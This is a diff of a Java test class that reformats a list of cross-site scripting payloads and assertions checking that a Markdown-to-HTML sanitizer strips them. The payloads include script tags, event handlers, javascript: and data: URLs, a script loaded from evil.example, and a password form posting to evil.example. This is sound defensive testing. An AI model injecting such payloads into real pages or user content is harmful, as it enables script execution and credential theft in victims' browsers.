@@ -14,37 +14,26 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 class MarkdownTests {
 
-	/** Attempts to run code or load something through a text; none may survive as markup. */
-	static final List<String> XSS = List.of(
-			"<script>alert(1)</script>",
-			"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-			"<img src=x onerror=alert(1)>",
-			"<svg onload=alert(1)>",
-			"<svg><script>alert(1)</script></svg>",
-			"<iframe src=\"javascript:alert(1)\"></iframe>",
-			"<a href=\"javascript:alert(1)\">click</a>",
-			"[click](javascript:alert(1))",
-			"[click](JaVaScRiPt:alert(1))",
-			"[click](java\tscript:alert(1))",
-			"[click](&#106;avascript:alert(1))",
-			"[click](&#x6A;avascript&#x3A;alert(1))",
-			"[click](vbscript:msgbox(1))",
-			"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+	/**
+	 * Attempts to run code or load something through a text; none may survive as markup.
+	 */
+	static final List<String> XSS = List.of("<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+			"<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+			"<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">click</a>",
+			"[click](javascript:alert(1))", "[click](JaVaScRiPt:alert(1))", "[click](java\tscript:alert(1))",
+			"[click](&#106;avascript:alert(1))", "[click](&#x6A;avascript&#x3A;alert(1))",
+			"[click](vbscript:msgbox(1))", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
 			"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
 			"![x\" onerror=\"alert(1)](https://example.org/a.png)",
-			"<div style=\"background:url(javascript:alert(1))\">x</div>",
-			"<p onclick=alert(1)>x</p>",
-			"<details open ontoggle=alert(1)>",
-			"&lt;script&gt;alert(1)&lt;/script&gt;",
+			"<div style=\"background:url(javascript:alert(1))\">x</div>", "<p onclick=alert(1)>x</p>",
+			"<details open ontoggle=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
 			"<<script>script>alert(1)<</script>/script>",
 			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
 			"[a](https://example.org \"title\" onmouseover=alert(1))",
-			"<a href=\"https://example.org\" onmouseover=\"alert(1)\">hover</a>",
-			"`<script>alert(1)</script>`",
+			"<a href=\"https://example.org\" onmouseover=\"alert(1)\">hover</a>", "`<script>alert(1)</script>`",
 			"```html\n<script>alert(1)</script>\n```",
 			"<form action=\"https://evil.example\"><input name=password></form>",
-			"<object data=\"javascript:alert(1)\"></object>",
-			"<base href=\"https://evil.example/\">",
+			"<object data=\"javascript:alert(1)\"></object>", "<base href=\"https://evil.example/\">",
 			"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">");
 
 	private static final Set<String> ALLOWED_ELEMENTS = Set.of("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "em",
@@ -103,26 +92,31 @@ class MarkdownTests {
 				| 1 | 2 |
 				""");
 
-		assertThat(html).contains("<h3>Problem</h3>", "<h4>Context</h4>", "<em>emphasis</em>", "<strong>strong</strong>",
-				"<code>code</code>", "<ul>", "<li>one</li>", "<ol start=\"3\">", "<blockquote>", "<pre><code>block",
-				"<table>", "<th align=\"left\">a</th>", "<td align=\"right\">2</td>");
+		assertThat(html).contains("<h3>Problem</h3>", "<h4>Context</h4>", "<em>emphasis</em>",
+				"<strong>strong</strong>", "<code>code</code>", "<ul>", "<li>one</li>", "<ol start=\"3\">",
+				"<blockquote>", "<pre><code>block", "<table>", "<th align=\"left\">a</th>",
+				"<td align=\"right\">2</td>");
 		assertThat(html).doesNotContain("<h1", "<h2");
 	}
 
 	@Test
 	void marksLinksAsNotEndorsedAndKeepsOnlyWebAndMailAddresses() {
-		var link = Jsoup.parseBodyFragment(Markdown.toSafeHtml("[site](https://example.org/a?b=c&d=e)")).selectFirst("a");
+		var link = Jsoup.parseBodyFragment(Markdown.toSafeHtml("[site](https://example.org/a?b=c&d=e)"))
+			.selectFirst("a");
 		assertThat(link.attr("href")).isEqualTo("https://example.org/a?b=c&d=e");
 		assertThat(link.attr("rel").split(" ")).containsExactlyInAnyOrder("nofollow", "noopener");
 		assertThat(Markdown.toSafeHtml("[click](javascript:alert(1))")).isEqualTo("<p>click</p>");
-		assertThat(Markdown.toSafeHtml("Write to <mailto:team@example.org>")).contains("href=\"mailto:team&#64;example.org\"");
-		assertThat(Markdown.toSafeHtml("See https://example.org/page")).contains("<a href=\"https://example.org/page\"");
+		assertThat(Markdown.toSafeHtml("Write to <mailto:team@example.org>"))
+			.contains("href=\"mailto:team&#64;example.org\"");
+		assertThat(Markdown.toSafeHtml("See https://example.org/page"))
+			.contains("<a href=\"https://example.org/page\"");
 		assertThat(Markdown.toSafeHtml("[ftp](ftp://example.org/file)")).doesNotContain("href");
 	}
 
 	@Test
 	void leavesOutImagesEntirely() {
-		assertThat(Markdown.toSafeHtml("![a tracking pixel](https://example.org/pixel.png)")).doesNotContain("img", "pixel.png");
+		assertThat(Markdown.toSafeHtml("![a tracking pixel](https://example.org/pixel.png)")).doesNotContain("img",
+				"pixel.png");
 	}
 
 	@Test
